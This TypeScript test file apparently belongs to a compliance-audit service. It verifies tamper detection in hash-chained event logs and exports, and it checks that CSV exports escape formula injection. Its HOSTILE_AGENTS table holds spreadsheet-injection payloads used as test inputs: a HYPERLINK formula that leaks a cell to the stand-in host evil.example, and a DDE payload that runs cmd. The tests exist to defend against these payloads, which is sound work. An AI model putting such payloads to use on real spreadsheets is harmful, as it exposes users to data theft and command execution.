/**
 * Tampering and exports: one byte of a stored compliance event is
 * flipped in the SQLite file itself; the history endpoint's verification names the broken revision, a JSON
 * export taken before verifies (in code and with `npm run audit -- verify`), one taken after is refused
 * naming the stream and revision, and hand edits of an export are refused naming the first mismatch.
 * CSV exports: a header row, one row per event, RFC 4180 quoting and formula-injection escaping.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { type Stack, startStack, testClock } from '@tickwise/command-service/testing';
import { type AuditExport, type AuditHistory, DocumentType, streams } from '@tickwise/contracts';
import Database from 'better-sqlite3';
import { exportHashOf } from './exports';
import { assessRisk, type Person, parseCsv, register, registerWithRole, view } from './test-support';
import { verifyExport } from './verify-export';

const run = promisify(execFile);
const ROOT = join(__dirname, '..', '..', '..');
const files = mkdtempSync(join(tmpdir(), 'tickwise-exports-'));

/** One User-Agent per acknowledged document: each starts with a character a spreadsheet reads as a formula. */
const HOSTILE_AGENTS: Record<DocumentType, string> = {
  risk_disclosure: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  cftc_warning: "+1+cmd|' /C calc'!A0",
  educational_disclaimer: '-2+3',
  privacy_policy: '@SUM(1+1)',
};

const clock = testClock('2025-06-02T08:00:00.000Z');
let stack: Stack;
let auditor: Person;
let learner: Person;
let untouchedExport = '';
let tamperedStream = '';

beforeAll(async () => {
  stack = await startStack({ clock, publishContent: true });
  auditor = await registerWithRole(stack, 'auditor');
  learner = await register(stack, { label: 'tamper' });
  for (const type of DocumentType.values) await view(learner, type);
  clock.advance(12_000);
  for (const type of DocumentType.values) {
    const res = await learner.post(
      '/api/compliance/acknowledgment',
      { documentType: type, version: '1.0' },
      { 'User-Agent': HOSTILE_AGENTS[type] },
    );
    expect(res.status).toBe(201);
  }
  await assessRisk(learner);
  auditor.saw(learner.position);
  tamperedStream = streams.compliance(learner.userId);

  const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=json`);
  expect(res.status).toBe(200);
  untouchedExport = res.text;
});
afterAll(async () => {
  await stack?.close();
  rmSync(files, { recursive: true, force: true });
});

const parse = (text: string) => JSON.parse(text) as AuditExport;
const history = async () => {
  const res = await auditor.get(`/api/audit/learners/${learner.userId}/history`);
  expect(res.status).toBe(200);
  return res.body as AuditHistory;
};
let fileCount = 0;
const saved = (text: string) => {
  const file = join(files, `export-${++fileCount}.json`);
  writeFileSync(file, text);
  return file;
};
const auditCli = (file: string) =>
  run(process.execPath, ['--import', 'tsx', join(ROOT, 'query-service/src/audit/cli.ts'), 'verify', file], {
    cwd: ROOT,
  });

/** Rewrites one stored event's data straight in the SQLite file, bypassing the event log. */
function rewriteStoredData(stream: string, revision: number, edit: (data: string) => string) {
  const db = new Database(join(stack.dir, 'events.db'));
  try {
    const row = db
      .prepare('SELECT data FROM events WHERE stream = ? AND revision = ?')
      .get(stream, revision) as { data: string } | undefined;
    if (!row) throw new Error(`no stored event ${stream}@${revision}`);
    const data = edit(row.data);
    expect(data).not.toBe(row.data);
    db.prepare('UPDATE events SET data = ? WHERE stream = ? AND revision = ?').run(data, stream, revision);
  } finally {
    db.close();
  }
}

/** Flips the lowest bit of one byte of a stored event's data, straight in the SQLite file. */
function flipByteOfStoredEvent(stream: string, revision: number) {
  rewriteStoredData(stream, revision, (stored) => {
    // A byte inside the content hash (a hex digit): flipping its lowest bit keeps the JSON readable.
    const index = stored.indexOf('"contentHash":"') + '"contentHash":"'.length + 10;
    const flipped = String.fromCharCode((stored.charCodeAt(index) ^ 1) & 0xff);
    const data = `${stored.slice(0, index)}${flipped}${stored.slice(index + 1)}`;
    JSON.parse(data);
    return data;
  });
}

/** Cuts the last character off a stored event's data: it no longer parses. */
const makeStoredEventUnreadable = (stream: string, revision: number) =>
  rewriteStoredData(stream, revision, (stored) => stored.slice(0, -1));

describe('before any tampering', () => {
  test('the history verifies every stream', async () => {
    const verification = (await history()).verification;
    expect(verification.length).toBeGreaterThan(0);
    expect(verification.every((v) => v.ok && v.brokenAtRevision === null)).toBe(true);
  });

  test('a JSON export is a download carrying the streams from revision 0 and an export hash', async () => {
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="tickwise-history-${learner.userId}-2025-06-02\\.json"$`),
    );
    const file = parse(untouchedExport);
    expect(file.kind).toBe('learner-history');
    expect(file.generatedBy).toBe(auditor.userId);
    expect(file.exportHash).toMatch(/^[0-9a-f]{64}$/);
    const compliance = file.streams.find((s) => s.stream === tamperedStream);
    expect(compliance?.events.map((e) => e.revision)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8]);
    // Each stream's head as exported: how many events and the hash of the last one.
    expect(file.heads).toEqual(
      file.streams.map((s) => ({
        stream: s.stream,
        events: s.events.length,
        lastHash: s.events[s.events.length - 1]?.metadata.hash,
      })),
    );
  });

  test('the untouched export verifies with verifyExport', () => {
    expect(verifyExport(parse(untouchedExport))).toEqual({
      ok: true,
      summary: expect.stringMatching(/^verified: 6 streams, \d+ events, 9 report events, export hash ok$/),
    });
  });

  test('and with the CLI: `npm run audit -- verify <file>` exits 0', async () => {
    const { stdout } = await auditCli(saved(untouchedExport));
    expect(stdout).toMatch(/^verified: 6 streams/);
  }, 30_000);
});

describe('an export edited by hand is refused, naming the first mismatch', () => {
  const edited = (edit: (file: AuditExport) => void) => {
    const file = parse(untouchedExport);
    edit(file);
    return verifyExport(file);
  };
  const storedEvents = (file: AuditExport) => {
    const found = file.streams.find((s) => s.stream === tamperedStream);
    if (!found) throw new Error('the export has no compliance stream');
    return found.events;
  };
  const problem = (result: ReturnType<typeof verifyExport>) => (result.ok ? 'ok' : result.problem);

  test('a field of the report (the compliance state) → the state does not replay from the streams', () => {
    expect(
      problem(
        edited((file) => {
          if ('state' in file.report) file.report.state.isCompliant = false;
        }),
      ),
    ).toMatch(/^report\.state is not what the exported streams replay to/);
  });

  test('an edited state with a recomputed export hash is still refused: the report must replay from the streams', () => {
    const file = parse(untouchedExport);
    if ('state' in file.report) file.report.state.isCompliant = !file.report.state.isCompliant;
    const { exportHash: _old, ...body } = file;
    const rehashed = { ...body, exportHash: exportHashOf(body) };
    expect(problem(verifyExport(rehashed))).toMatch(
      /^report\.state is not what the exported streams replay to/,
    );
  });

  test('a report event that no longer matches the stored event it cites → that report event is named', () => {
    const result = edited((file) => {
      if ('events' in file.report) {
        const cited = file.report.events[5];
        if (cited?.type === 'DocumentAcknowledged') cited.data.secondsRead += 100;
      }
    });
    expect(problem(result)).toBe(
      `report.events[5] (${tamperedStream} revision 5) does not match the stored event`,
    );
  });

  test('a stored event → its stream and revision (the first one when several were changed)', () => {
    const result = edited((file) => {
      const events = storedEvents(file);
      for (const revision of [6, 4]) {
        const event = events[revision];
        if (event) event.data = { ...(event.data as object), ip: '203.0.113.66' };
      }
    });
    expect(problem(result)).toMatch(new RegExp(`^stream ${tamperedStream}, revision 4: `));
  });

  test("a stored event's metadata (who acted) → its stream and revision", () => {
    const result = edited((file) => {
      const event = storedEvents(file)[3];
      if (event) event.metadata = { ...event.metadata, actor: 'someone-else' };
    });
    expect(problem(result)).toMatch(new RegExp(`^stream ${tamperedStream}, revision 3: `));
  });

  test('a stored event removed from the middle of a stream → the revision where the gap is', () => {
    const result = edited((file) => {
      storedEvents(file).splice(2, 1);
    });
    expect(problem(result)).toMatch(new RegExp(`^stream ${tamperedStream}, revision 2: `));
  });

  // A chain verifies from revision 0, so a stream cut short at its tail is still a valid chain: the head the
  // export recorded for it (covered by the export hash) is what catches it.
  test('the last event of a stream cut off (its chain still verifies) → the stream and its missing tail', () => {
    const file = parse(untouchedExport);
    const lastHash = storedEvents(file)[8]?.metadata.hash;
    const newLast = storedEvents(file)[7]?.metadata.hash;
    storedEvents(file).pop();
    expect(problem(verifyExport(file))).toBe(
      `stream ${tamperedStream} holds 8 events ending in ${String(newLast)}, but was exported with 9 ending in ${String(lastHash)}: events are missing from its tail`,
    );
  });

  test('an export as of before the last event, its tail cut off and the export hash recomputed → the missing tail is named', async () => {
    // As of the views, before the acknowledgments and the risk assessment.
    const asOf = String(storedEvents(parse(untouchedExport))[3]?.metadata.occurredAt);
    const res = await auditor.get(
      `/api/audit/learners/${learner.userId}/export?asOf=${encodeURIComponent(asOf)}`,
    );
    expect(res.status).toBe(200);
    const file = parse(res.text);
    expect(verifyExport(file).ok).toBe(true);
    expect('events' in file.report && file.report.events.map((e) => e.revision)).toEqual([0, 1, 2, 3]);
    // The report does not cite the last event and replays the same without it: only the head tells.
    storedEvents(file).pop();
    const { exportHash: _old, ...body } = file;
    expect(problem(verifyExport({ ...body, exportHash: exportHashOf(body) }))).toMatch(
      new RegExp(`^stream ${tamperedStream} holds 8 events .*: events are missing from its tail$`),
    );
    // Its head rewritten as well (and the hash recomputed again): the report's verification still counts 9.
    body.heads = body.heads.map((h) =>
      h.stream === tamperedStream
        ? { ...h, events: 8, lastHash: String(storedEvents(file)[7]?.metadata.hash) }
        : h,
    );
    expect(problem(verifyExport({ ...body, exportHash: exportHashOf(body) }))).toBe(
      `report.verification[1] (${tamperedStream}: ok, 9 events) is not what the exported streams verify to`,
    );
  });

  test('a whole stream left out → its recorded head names it', () => {
    const result = edited((file) => {
      file.streams = file.streams.filter((s) => s.stream !== 'catalog-document-privacy_policy');
    });
    expect(problem(result)).toBe(
      'heads names stream catalog-document-privacy_policy, which the file does not hold',
    );
  });

  test('an export without the streams’ heads is refused', () => {
    const result = edited((file) => {
      delete (file as Partial<AuditExport>).heads;
    });
    expect(problem(result)).toMatch(/^the file has no "heads" list/);
  });

  test('the export hash itself → the export hash does not match', () => {
    expect(
      problem(
        edited((file) => {
          file.exportHash = `${file.exportHash.slice(0, 63)}${file.exportHash.endsWith('0') ? '1' : '0'}`;
        }),
      ),
    ).toMatch(/^exportHash does not match/);
  });

  test('something that is not an export at all', () => {
    expect(problem(verifyExport('text'))).toBe('the file is not a JSON object');
    expect(problem(verifyExport({ report: {} }))).toBe('the file has no "streams" list');
  });
});

describe('anchors: every export is recorded in the log with its hash (`npm run audit -- anchored <file>`)', () => {
  const anchoredCli = (file: string) =>
    run(
      process.execPath,
      ['--import', 'tsx', join(ROOT, 'query-service/src/audit/cli.ts'), 'anchored', file],
      {
        cwd: ROOT,
        env: { ...process.env, DATA_DIR: stack.dir },
      },
    );
  const exportEvents = async () =>
    (await stack.allEvents()).filter(
      (e) =>
        e.type === 'AuditorViewedRecords' && String((e.data as { view: string }).view).includes('export'),
    );

  test('the JSON export taken above is recorded with its exportHash in the auditor stream', async () => {
    const { exportHash } = parse(untouchedExport);
    const recorded = (await exportEvents()).map((e) => e.data as { exportHash?: string; view: string });
    expect(recorded).toContainEqual(expect.objectContaining({ view: 'export:json', exportHash }));
  });

  test('the CLI finds it: who exported which learner, when, and where the record is', async () => {
    const { stdout } = await anchoredCli(saved(untouchedExport));
    expect(stdout).toContain(`Anchored: exported by auditor ${auditor.userId}`);
    expect(stdout).toContain(`of learner ${learner.userId}`);
    expect(stdout).toContain(`recorded as ${streams.audit(auditor.userId)} revision`);
  }, 30_000);

  test('a CSV export is anchored by the SHA-256 of its bytes; one changed character is not', async () => {
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=csv`);
    expect(res.status).toBe(200);
    const file = join(files, 'history.csv');
    writeFileSync(file, res.text);
    await expect(anchoredCli(file)).resolves.toMatchObject({ stdout: expect.stringContaining('Anchored:') });
    writeFileSync(file, res.text.replace('risk_disclosure', 'risk_disclosurE'));
    await expect(anchoredCli(file)).rejects.toMatchObject({
      code: 1,
      stdout: expect.stringContaining('NOT ANCHORED'),
    });
  }, 60_000);

  test('a self-consistent export that Tickwise never issued (re-dated, hash recomputed) verifies offline but is not anchored', async () => {
    const { exportHash: _old, ...body } = parse(untouchedExport);
    const redated = { ...body, generatedAt: '2025-01-01T00:00:00.000Z' };
    const forged = JSON.stringify({ ...redated, exportHash: exportHashOf(redated) });
    const file = saved(forged);
    await expect(auditCli(file)).resolves.toMatchObject({ stdout: expect.stringMatching(/^verified/) });
    await expect(anchoredCli(file)).rejects.toMatchObject({
      code: 1,
      stdout: expect.stringContaining('NOT ANCHORED'),
    });
  }, 60_000);
});

describe('after a byte of compliance revision 2 was flipped in the SQLite file', () => {
  let afterTampering = '';
  beforeAll(async () => {
    flipByteOfStoredEvent(tamperedStream, 2);
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export`);
    expect(res.status).toBe(200);
    afterTampering = res.text;
  });

  test('the history endpoint says that stream is broken at revision 2, every other stream ok', async () => {
    const verification = (await history()).verification;
    expect(verification.find((v) => v.stream === tamperedStream)).toEqual({
      stream: tamperedStream,
      ok: false,
      events: 9,
      brokenAtRevision: 2,
    });
    const others = verification.filter((v) => v.stream !== tamperedStream);
    expect(others).toHaveLength(5);
    expect(others.every((v) => v.ok && v.brokenAtRevision === null)).toBe(true);
  });

  test('the export taken before still verifies (it holds the original events)', () => {
    expect(verifyExport(parse(untouchedExport)).ok).toBe(true);
  });

  test('an export taken after is refused by verifyExport, naming the stream and revision', () => {
    const result = verifyExport(parse(afterTampering));
    expect(result.ok).toBe(false);
    expect(result.ok ? '' : result.problem).toMatch(
      new RegExp(`^stream ${tamperedStream}, revision 2: content does not match its hash$`),
    );
  });

  test('and by the CLI, with exit code 1', async () => {
    await expect(auditCli(saved(afterTampering))).rejects.toMatchObject({
      code: 1,
      stdout: expect.stringContaining(`NOT VERIFIED: stream ${tamperedStream}, revision 2`),
    });
  }, 30_000);
});

describe('CSV exports', () => {
  const HEADER = [
    'occurredAt',
    'type',
    'stream',
    'revision',
    'documentType',
    'version',
    'contentHash',
    'viewedAt',
    'acknowledgedAt',
    'secondsRead',
    'ip',
    'userAgent',
    'consentText',
    'details',
    'prevHash',
    'hash',
  ];

  test('a history: text/csv download, a header row and one row per event of the replay', async () => {
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=csv`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="tickwise-history-.+\.csv"$/);
    expect(res.text.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = parseCsv(res.text);
    expect(header).toEqual(HEADER);
    const events = (await history()).events;
    expect(rows.map((r) => [r[1], r[2], r[3], r[15]])).toEqual(
      events.map((e) => [e.type, e.stream, String(e.revision), e.hash]),
    );
    expect(rows.every((r) => r.length === HEADER.length)).toBe(true);
  });

  test('as of a moment: only the events up to it', async () => {
    const asOf = new Date(Date.parse('2025-06-02T08:00:00.000Z') + 1000).toISOString();
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=csv&asOf=${asOf}`);
    const [, ...rows] = parseCsv(res.text);
    expect(rows.map((r) => r[1])).toEqual(DocumentType.values.map(() => 'ComplianceDocumentViewed'));
  });

  test('a value starting with = + - or @ is escaped with a leading quote; quotes and commas survive RFC 4180', async () => {
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=csv`);
    const [header, ...rows] = parseCsv(res.text);
    const column = (name: string) => header?.indexOf(name) ?? -1;
    const acknowledgments = rows.filter((r) => r[column('type')] === 'DocumentAcknowledged');
    expect(acknowledgments.map((r) => [r[column('documentType')], r[column('userAgent')]])).toEqual(
      DocumentType.values.map((type) => [type, `'${HOSTILE_AGENTS[type]}`]),
    );
    // No cell anywhere starts with a formula character.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
  });
});

// Last, as it leaves the stream unreadable: after the flipped byte, stored events that cannot be read at all.
describe('then stored events that can no longer be read at all', () => {
  test('a later event unreadable: the history still names the first broken revision, 2', async () => {
    makeStoredEventUnreadable(tamperedStream, 7);
    const verification = (await history()).verification;
    expect(verification.find((v) => v.stream === tamperedStream)).toEqual({
      stream: tamperedStream,
      ok: false,
      events: 7,
      brokenAtRevision: 2,
    });
  });

  test('revision 2 unreadable: the history names it; an export (holding the readable events before it) is refused', async () => {
    makeStoredEventUnreadable(tamperedStream, 2);
    expect((await history()).verification.find((v) => v.stream === tamperedStream)).toEqual({
      stream: tamperedStream,
      ok: false,
      events: 2,
      brokenAtRevision: 2,
    });
    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export`);
    expect(res.status).toBe(200);
    const file = parse(res.text);
    expect(file.streams.find((s) => s.stream === tamperedStream)?.events).toHaveLength(2);
    expect(verifyExport(file)).toEqual({
      ok: false,
      problem: `report.verification[1] (${tamperedStream}: broken at revision 2, 2 events) is not what the exported streams verify to`,
    });
  });
});
